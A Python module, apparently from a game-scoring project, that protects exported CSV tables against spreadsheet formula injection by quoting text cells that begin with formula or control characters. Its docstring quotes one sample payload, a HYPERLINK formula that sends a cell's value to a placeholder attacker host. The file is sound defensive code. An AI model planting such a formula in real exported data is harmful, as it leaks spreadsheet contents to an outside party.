"""CSV cells a spreadsheet shows as text, never runs as a formula (OWASP "CSV injection").

A player named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` or an override reason
``=1+1`` would otherwise become a live formula when the table's CSV is opened in
Excel, LibreOffice or Google Sheets.  A text cell that begins with ``=``, ``+``, ``-``
or ``@`` (after any leading spaces or line breaks, which some spreadsheets skip), or
with a tab or carriage return, gets a single quote ``'`` in front: the spreadsheet
shows the text as recorded, behind a visible quote, and runs nothing.

Numbers stay numbers: only ``str`` cells are looked at, so a score of -3 the project
wrote as an int is still -3 in the sheet.  Text that is wholly a plain decimal number
(a player named "-3") is left as it is too: a spreadsheet reads it as that number and
nothing runs.  Text that already begins with a quote before such a start gets one
more, so dropping one leading quote (``recorded_text``) always gives back the text as
recorded.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
QUOTE = "'"
# The first characters worth a closer look (every whitespace lies below U+3001): most
# cells ("Ann drew a card") are passed at once.
_WHITESPACE = (chr(c) for c in range(0x3001) if chr(c).isspace())
_LOOK_CLOSER = frozenset((*FORMULA_STARTS, *CONTROL_STARTS, QUOTE, *_WHITESPACE))
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet cannot run: dangerous text quoted, anything
    else as it is.

    >>> neutralise("=1+1"), neutralise("  @SUM(A1)"), neutralise("\\tx"), neutralise("-2+3")
    ("'=1+1", "'  @SUM(A1)", "'\\tx", "'-2+3")
    >>> neutralise(-3), neutralise("-3"), neutralise("Ann - 3"), neutralise("'=x")
    (-3, '-3', 'Ann - 3', "''=x")
    """
    if isinstance(value, str) and value[:1] in _LOOK_CLOSER and _needs_quote(value):
        return QUOTE + value
    return value


def csv_table(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document, every cell (the header's too) through ``neutralise``, rows ending
    in ``\\n``.  A cell holding a carriage return is quoted like one holding a line feed:
    Python's writer quotes only the characters of its line terminator, so a name with a
    bare CR would otherwise split its row in two for any reader.

    >>> print(csv_table(["player", "total"], [["=1+1", -3], ["a\\rb", 0]]).replace("\\r", "<CR>"), end="")
    player,total
    '=1+1,-3
    "a<CR>b",0
    """
    # ``neutralise`` inlined: one call a cell was most of the cost of a long game's table.
    cells = [[QUOTE + value if isinstance(value, str) and value[:1] in _LOOK_CLOSER and _needs_quote(value)
              else value for value in row] for row in (header, *rows)]
    out = io.StringIO()
    if not any("\r" in value for row in cells for value in row if isinstance(value, str)):
        csv.writer(out, lineterminator="\n").writerows(cells)
        return out.getvalue()
    row_text = io.StringIO()
    writer = csv.writer(row_text, lineterminator="\r\n")  # the terminator says which characters need quotes
    for row in cells:
        row_text.seek(0)
        row_text.truncate()
        writer.writerow(row)
        out.write(row_text.getvalue()[:-2] + "\n")
    return out.getvalue()


def recorded_text(cell: str) -> str:
    """The text as recorded, from a cell ``neutralise`` wrote (for a program reading the CSV).

    >>> recorded_text("'=1+1"), recorded_text("'tis"), recorded_text("''=x")
    ('=1+1', "'tis", "'=x")
    """
    if cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def _needs_quote(text: str) -> bool:
    while text.startswith(QUOTE):  # "'=x" is quoted again, so that one quote always comes off
        text = text[1:]
    if text.startswith(CONTROL_STARTS):
        return True
    start = text.lstrip()
    return start.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(start.rstrip())
